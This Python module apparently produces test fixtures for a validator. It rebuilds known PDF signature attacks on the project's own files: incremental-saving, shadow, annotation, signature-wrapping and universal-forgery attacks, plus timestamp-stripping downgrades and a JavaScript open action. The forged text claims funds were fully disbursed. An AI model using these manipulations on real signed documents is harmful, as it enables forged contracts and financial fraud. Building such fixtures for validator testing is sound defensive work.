"""Manipulated files: the published attacks on PDF signatures, each rebuilt on a file of ours (tte.md 8)."""

import io
import re
from collections.abc import Callable
from typing import Any

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]")
FORGED = b"BT /F1 24 Tf 80 700 Td (Dana dicairkan seluruhnya) Tj ET"


def saved(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """The file with one more revision, written as a well-behaved program would."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page(writer: IncrementalPdfFileWriter, number: int) -> Any:
    """A page as the writer sees it."""
    return writer.root["/Pages"]["/Kids"][number].get_object()


def incremental_saving(pdf: bytes) -> bytes:
    """ISA: the text of a page is another one in a later revision."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        target = page(writer, 0)
        target["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED))
        writer.update_container(target)

    return saved(pdf, change)


def incremental_without_xref(pdf: bytes) -> bytes:
    """ISA without cross-references: readers that repair files would show it."""
    return pdf + b"\n4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED), FORGED)


def appended_field(pdf: bytes) -> bytes:
    """An update that the certification (DocMDP P=2) does not allow: one more signature field."""
    box = (60, 660, 540, 760)
    return saved(pdf, lambda w: fields.append_signature_field(w, fields.SigFieldSpec("Susulan", on_page=0, box=box)))


def sneaky_signature(pdf: bytes) -> bytes:
    """SSA: a signature widget whose picture covers the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        box = (60, 660, 540, 760)
        fields.append_signature_field(writer, fields.SigFieldSpec("Susulan", on_page=0, box=box))
        field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
        looks = generic.StreamObject(
            dict_data={
                generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
                generic.pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 480, 100))),
            },
            stream_data=FORGED,
        )
        field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): writer.add_object(looks)})
        writer.update_container(field)

    return saved(pdf, change)


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a text note painted over the page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        note = generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
                generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (60, 660, 540, 760))),
                generic.pdf_name("/Contents"): generic.TextStringObject("Dana dicairkan seluruhnya"),
                generic.pdf_name("/DA"): generic.TextStringObject("/Helv 24 Tf"),
            }
        )
        target = page(writer, 0)
        target["/Annots"] = generic.ArrayObject([writer.add_object(note)])
        writer.update_container(target)

    return saved(pdf, change)


def changed_annotation(pdf: bytes) -> bytes:
    """The signature's own widget is moved over the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field["/Rect"] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842)))
        writer.update_container(field)

    return saved(pdf, change)


def shadow_replace(pdf: bytes) -> bytes:
    """Shadow attack, replace: the picture of the signature becomes another text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        looks = field["/AP"].raw_get("/N").get_object()
        looks._data, looks._encoded_data = FORGED, None
        writer.mark_update(field["/AP"].raw_get("/N").reference)

    return saved(pdf, change)


def shadow_hide(pdf: bytes) -> bytes:
    """Shadow attack, hide: what lay over the text is taken away."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        target = page(writer, 1)
        target["/Annots"] = generic.ArrayObject()
        writer.update_container(target)

    return saved(pdf, change)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Shadow attack, hide and replace: the catalogue points to another tree of pages."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        name, number = generic.pdf_name, generic.NumberObject
        sheet = generic.DictionaryObject(
            {
                name("/Type"): name("/Page"),
                name("/MediaBox"): generic.ArrayObject(map(number, (0, 0, 595, 842))),
                name("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED)),
            }
        )
        kid = writer.add_object(sheet)
        tree = generic.DictionaryObject(
            {name("/Type"): name("/Pages"), name("/Kids"): generic.ArrayObject([kid]), name("/Count"): number(1)}
        )
        writer.root["/Pages"] = sheet["/Parent"] = writer.add_object(tree)
        writer.update_root()

    return saved(pdf, change)


def active_content(pdf: bytes) -> bytes:
    """A script that runs when the file is opened."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/OpenAction"] = generic.DictionaryObject(
            {
                generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
                generic.pdf_name("/JS"): generic.TextStringObject("app.alert(1)"),
            }
        )
        writer.update_root()

    return saved(pdf, change)


def other_title(pdf: bytes) -> bytes:
    """Another title among the properties of the file."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info = writer.trailer_view["/Info"]
        info["/Title"] = generic.TextStringObject("Judul palsu")
        writer.update_container(info)

    return saved(pdf, change)


def flipped_byte(pdf: bytes) -> bytes:
    """One letter of the signed part is another."""
    assert pdf.count(b"Undangan Rapat") == 1
    return pdf.replace(b"Undangan Rapat", b"Undangan Ralat")


def trailing_bytes(pdf: bytes) -> bytes:
    """Something behind the end of the file."""
    return pdf + b"\n% tambahan"


def wrapped(pdf: bytes) -> bytes:
    """SWA: the second signed half is moved back, and between the halves there is room for another page."""
    found = RANGE.search(pdf)
    assert found is not None
    _, first, start, length = map(int, found.groups())
    second = pdf[start : start + length]
    between = b"\n4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED), FORGED)
    moved = b"/ByteRange [0 %d %d %d]" % (first, start + len(between), length)
    return pdf[: found.start()] + moved.ljust(len(found.group())) + pdf[found.end() : start] + between + second


def wrapped_in_an_update(pdf: bytes) -> bytes:
    """SWA in an update: the signature names a copy of the second half, so its digest still fits."""
    found = RANGE.search(pdf)
    assert found is not None
    _, first, start, length = map(int, found.groups())

    def with_copy_at(offset: int) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            target = page(writer, 0)
            target["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED))
            writer.update_container(target)
            writer.add_object(generic.StreamObject(stream_data=pdf[start : start + length]))
            signature = writer.root["/AcroForm"]["/Fields"][0].get_object()["/V"]
            numbers = (0, first, offset, length)
            signature["/ByteRange"] = generic.ArrayObject(map(generic.NumberObject, numbers))
            writer.update_container(signature)

        return saved(pdf, change)

    offset = 0
    for _ in range(4):  # the length of the number moves the copy
        made = with_copy_at(offset)
        offset = made.index(pdf[start : start + 400], len(pdf))
    return made


def empty_contents(pdf: bytes) -> bytes:
    """USF: a signature without a signature."""
    return re.sub(rb"/Contents <[0-9a-fA-F]+>", lambda m: b"/Contents <>".ljust(len(m.group())), pdf, count=1)


def null_contents(pdf: bytes) -> bytes:
    """USF: nothing but zeros as the signature."""
    return re.sub(rb"/Contents <([0-9a-fA-F]+)>", lambda m: b"/Contents <" + b"0" * len(m[1]) + b">", pdf, count=1)


def null_range(pdf: bytes) -> bytes:
    """USF: the signature covers null."""
    return RANGE.sub(lambda m: b"/ByteRange null".ljust(len(m.group())), pdf, count=1)


def short_range(pdf: bytes) -> bytes:
    """USF: the signature covers nothing."""
    return RANGE.sub(lambda m: b"/ByteRange [0 0 0 0]".ljust(len(m.group())), pdf, count=1)


def missing_range(pdf: bytes) -> bytes:
    """USF: the signature does not say what it covers."""
    return RANGE.sub(lambda m: b"/ByteRonge" + m.group()[10:], pdf, count=1)


def without_archive_stamp(pdf: bytes) -> bytes:
    """Downgrade: the last revision, with evidence and archive stamp, is cut off."""
    ends = [found.end() for found in re.finditer(rb"%%EOF\s*", pdf)]
    return pdf[: ends[-2]]


def without_time_stamp(pdf: bytes) -> bytes:
    """Downgrade: the time-stamp is taken out of the signature; the signature itself does not cover it."""
    found = re.search(rb"/Contents <([0-9a-fA-F]+)>", pdf)
    assert found is not None
    content = cms.ContentInfo.load(bytes.fromhex(found[1].decode()))
    del content["content"]["signer_infos"][0]["unsigned_attrs"]
    bare = content.dump(force=True).hex().encode()
    return pdf[: found.start(1)] + bare.ljust(len(found[1]), b"0") + pdf[found.end(1) :]
